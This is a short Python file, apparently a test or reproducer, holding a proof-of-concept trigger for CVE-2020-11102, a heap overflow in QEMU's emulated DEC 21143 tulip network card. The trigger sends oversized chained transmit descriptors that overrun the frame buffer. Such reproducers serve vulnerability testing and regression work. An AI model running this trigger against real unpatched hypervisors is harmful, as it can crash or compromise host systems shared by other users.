# SPDX-License-Identifier: GPL-2.0
"""DEC's 21143 network card"""

import struct

DEVICES = ("tulip,netdev=net,mac=52:54:00:12:34:56",)
BACKENDS = ("-netdev hubport,id=net,hubid=0",)
# CSR6
PROBE = 1, 0x30

CSR_POLL, CSR_RING, CSR_MODE = 0x08, 0x20, 0x30
START_TRANSMIT = 1 << 13
OWN = 1 << 31
FIRST = 1 << 29
SIZE = 0x7ff


def cve_2020_11102(guest):
    """A frame of 2048 bytes at most is made of many parts, of 2047 bytes twice each."""
    bar = guest.device.bars[1]
    data = guest.memory(b"\x7f" * 2048)
    parts = [struct.pack("<IIII", OWN, SIZE << 11 | SIZE | (FIRST if i == 0 else 0), data, data)
             for i in range(64)]
    bar.write(CSR_RING, guest.memory(b"".join(parts) + bytes(16)))
    bar.write(CSR_MODE, START_TRANSMIT)
    bar.write(CSR_POLL, 1)
